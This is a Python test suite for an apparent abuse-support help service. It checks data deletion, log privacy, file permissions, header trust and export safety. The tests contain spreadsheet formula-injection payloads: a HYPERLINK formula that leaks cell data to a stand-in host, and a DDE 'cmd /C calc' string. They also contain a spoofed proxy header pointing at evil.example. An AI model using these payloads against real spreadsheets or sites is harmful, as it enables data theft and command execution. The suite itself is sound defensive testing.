"""Leave no trace: what STOP and quick exit delete, exports, file modes, logs, proxy headers."""

from __future__ import annotations

import csv
import io
import re
import secrets
import socket
import stat
from datetime import date
from xml.etree import ElementTree

import pytest
from twilio.request_validator import RequestValidator

from app import create_app
from storage import Feedback
from tests.services import postgres_database, redis_prefix, require_services

TOKEN = "test-twilio-token"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def _text(client, sender: str, body: str, sid: str) -> str:
    form = {"From": sender, "To": "+441234567890", "Body": body, "MessageSid": sid}
    signature = RequestValidator(TOKEN).compute_signature("http://localhost/sms", form)
    response = client.post("/sms", data=form, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 200
    return "\n".join(m.text for m in ElementTree.fromstring(response.data).iter("Message"))


def _sql_rows(database_url: str) -> list[tuple]:
    """Every conversation and kept reply in the database, read without the app."""
    query = "SELECT key, 'c' FROM conversations UNION ALL SELECT key, 'r' FROM replies"
    if database_url.startswith("sqlite"):
        import sqlite3

        with sqlite3.connect(database_url.removeprefix("sqlite:///")) as conn:
            return conn.execute(query).fetchall()
    import psycopg

    with psycopg.connect(database_url) as conn:
        return conn.execute(query).fetchall()


def _redis_keys(prefix: str) -> list[bytes]:
    import redis

    client = redis.Redis.from_url("redis://127.0.0.1:6379/0")
    try:
        return list(client.scan_iter(match=f"{prefix}*", count=1000))
    finally:
        client.close()


@pytest.fixture(params=["sqlite", "postgresql", "postgresql+redis"])
def deployment(request, tmp_path, index_dir):
    """An app on each kind of store, and a way to list everything it keeps."""
    backend = request.param
    if backend != "sqlite":
        require_services()
    with (
        postgres_database() if backend != "sqlite" else _nothing() as pg_url,
        redis_prefix() if "redis" in backend else _nothing() as prefix,
    ):
        database_url = pg_url or f"sqlite:///{tmp_path / 'privacy.sqlite3'}"
        app = create_app(
            {
                "TESTING": True,
                "SECRET_KEY": "privacy-secret",
                "LANTERN_HMAC_KEY": "privacy-hmac",
                "DATABASE_URL": database_url,
                "REDIS_URL": "redis://127.0.0.1:6379/0" if prefix else "",
                "LANTERN_REDIS_PREFIX": prefix or "lantern:",
                "LANTERN_INDEX_DIR": str(index_dir),
                "TWILIO_AUTH_TOKEN": TOKEN,
            }
        )

        def traces() -> list:
            return _sql_rows(database_url) + (_redis_keys(prefix) if prefix else [])

        yield app, traces
        app.extensions["lantern_store"].close()


class _nothing:
    def __enter__(self):
        return None

    def __exit__(self, *exc):
        return False


def test_stop_deletes_the_conversation_and_every_kept_reply(deployment):
    """After STOP, is nothing of the conversation left in any store, replies included?"""
    app, traces = deployment
    client = app.test_client()
    sender = f"+4477009{secrets.randbelow(10**5):05d}"
    _text(client, sender, "hello", "SM1")
    _text(client, sender, "1", "SM2")
    _text(client, sender, "he wants nude pics of me", "SM3")
    assert traces(), "the conversation and its replies should be stored before STOP"
    assert "forgotten" in _text(client, sender, "STOP", "SM4")
    assert traces() == []


def test_exit_and_clear_delete_the_chat(deployment):
    """After quick exit (or "clear this conversation"), is the chat's state gone everywhere?"""
    app, traces = deployment
    for path in ("/exit", "/chat/clear"):
        client = app.test_client()
        token = CSRF.search(client.get("/chat").get_data(as_text=True)).group(1)
        client.post("/chat", data={"message": "my uncle", "csrf_token": token})
        assert traces()
        if path == "/exit":
            assert client.get(path).status_code == 303
        else:
            token = CSRF.search(client.get("/chat").get_data(as_text=True)).group(1)
            assert client.post(path, data={"csrf_token": token}).status_code == 303
        assert traces() == [], path


@pytest.mark.parametrize(
    "comment, cell",
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', "'=HYPERLINK"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("the number = wrong", "the number = wrong"),
    ],
)
def test_feedback_export_neutralises_formulas(app, comment, cell):
    """Does every cell a spreadsheet would run as a formula start with a quote instead?"""
    app.extensions["lantern_store"].add_feedback(
        Feedback("page", "families", None, comment, date(2026, 11, 30))
    )
    result = app.test_cli_runner().invoke(args=["feedback", "export"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[1][4].startswith(cell), rows[1]


def test_stored_comment_that_lost_its_tab_is_still_neutralised(client, app):
    """A tab-prefixed formula has its tab stripped when stored: is the "=" still quoted?"""
    token = CSRF.search(client.get("/families").get_data(as_text=True)).group(1)
    client.post(
        "/feedback",
        data={"csrf_token": token, "target": "families", "comment": "\t=HYPERLINK(1)"},
    )
    result = app.test_cli_runner().invoke(args=["feedback", "export"])
    assert list(csv.reader(io.StringIO(result.output)))[1][4] == "'=HYPERLINK(1)"


def test_instance_files_are_the_owners_alone(client, app):
    """Are the database and its WAL files readable by their owner only?"""
    from pathlib import Path

    client.get("/healthz")
    store = app.extensions["lantern_store"]
    store.put_conversation("k", {"node": "x"}, 60)
    path = Path(store.records.path)
    files = [p for p in path.parent.iterdir() if p.name.startswith(path.name)]
    assert len(files) >= 2, files  # the database and at least its -wal file
    for file in files:
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file


def test_search_index_files_are_the_owners_alone(tmp_path):
    """Is a freshly built search index readable by its owner only?"""
    from pathlib import Path

    from directory import load_directory
    from directory.search import ensure_index

    root = Path(__file__).resolve().parents[2] / "content"
    folder, built = ensure_index(load_directory(root), tmp_path / "instance" / "index")
    assert built
    assert stat.S_IMODE((tmp_path / "instance").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "instance" / "index").stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for file in [*folder.iterdir(), tmp_path / "instance" / "index" / ".lock"]:
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file


def test_forwarded_prefix_needs_its_own_setting(tmp_path, index_dir):
    """Is X-Forwarded-Prefix ignored behind a proxy unless its own setting trusts it?"""
    base = {
        "TESTING": True,
        "SECRET_KEY": "x",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'p.sqlite3'}",
        "LANTERN_INDEX_DIR": str(index_dir),
        "LANTERN_PAGE_CACHE": 0,
        "LANTERN_PROXY_HOPS": 1,
    }
    headers = {"X-Forwarded-Prefix": "//evil.example", "X-Forwarded-Proto": "https"}
    html = create_app(base).test_client().get("/", headers=headers).get_data(as_text=True)
    assert "evil.example" not in html
    trusting = create_app({**base, "LANTERN_PROXY_PREFIX_HOPS": 1}).test_client()
    html = trusting.get("/", headers={"X-Forwarded-Prefix": "/help"}).get_data(as_text=True)
    assert 'href="/help/young-people"' in html or "/help/static/" in html


def test_hsts_over_https_only(tmp_path, index_dir):
    """Is Strict-Transport-Security sent when the proxy says HTTPS, and not over plain HTTP?"""
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "x",
            "DATABASE_URL": f"sqlite:///{tmp_path / 'h.sqlite3'}",
            "LANTERN_INDEX_DIR": str(index_dir),
            "LANTERN_PROXY_HOPS": 1,
        }
    )
    client = app.test_client()
    secure = client.get("/", headers={"X-Forwarded-Proto": "https"})
    assert secure.headers["Strict-Transport-Security"] == "max-age=63072000; includeSubDomains"
    assert "Strict-Transport-Security" not in client.get("/").headers


def test_method_not_allowed_says_what_is(client):
    """Does a 405 carry Allow, as HTTP requires?"""
    response = client.put("/")
    assert response.status_code == 405
    assert set(response.headers["Allow"].split(", ")) == {"GET", "HEAD", "OPTIONS"}
    response = client.put("/sms")
    assert response.status_code == 405
    assert "POST" in response.headers["Allow"]


def test_voice_survives_any_try_counter(client):
    """Does /voice answer a try count that only looks like a number ("²", "٣", "99999")?"""
    for value in ("%C2%B2", "%D9%A3", "99999", "-1", "1.5"):
        url = f"http://localhost/voice?try={value}"
        form = {"From": "+447700900123", "CallSid": "CA1"}
        signature = RequestValidator(TOKEN).compute_signature(url, form)
        response = client.post(
            f"/voice?try={value}", data=form, headers={"X-Twilio-Signature": signature}
        )
        assert response.status_code == 200, value
        assert "<Response>" in response.get_data(as_text=True)


def test_slash_variants_do_not_fill_the_page_cache(app, client):
    """Can `//young-people` and friends push real pages out of the cache? They must not."""
    cache = app.wsgi_app
    while not hasattr(cache, "entries"):
        cache = cache.wsgi_app
    for path in ("//young-people", "///young-people", "/ur//families", "//ur/families"):
        client.get("/", environ_overrides={"PATH_INFO": path})
    assert not [key for key in cache.entries if "//" in "".join(key[1:])]
    client.get("/young-people")
    assert ("http", "", "/young-people") in cache.entries


@pytest.mark.slow
def test_gunicorn_log_holds_no_request_line_or_address(tmp_path):
    """Does a malformed request line (which can hold a search) stay out of gunicorn's log,
    with the client's address?"""
    from tests.servers import gunicorn

    with gunicorn(tmp_path, {}, workers=1) as instance:
        for line in (
            b"GET /services?q=my uncle touches me HTTP/1.1\r\n\r\n",
            b"GET /services?q=secret\x01word HTTP/1.1\r\nHost: x\r\n\r\n",
            b"NOT-A-METHOD-my-uncle / HTTP/1.1\r\n\r\n",
        ):
            with socket.create_connection(("127.0.0.1", instance.port), timeout=5) as sock:
                sock.sendall(line)
                sock.recv(4096)
    log = instance.log.read_text(encoding="utf-8", errors="replace")
    assert "Invalid request" in log  # gunicorn did log the problem
    assert "uncle" not in log and "secret" not in log
    assert "127.0.0.1:" not in log.replace(f"127.0.0.1:{instance.port}", "")
    assert "ip=" not in log
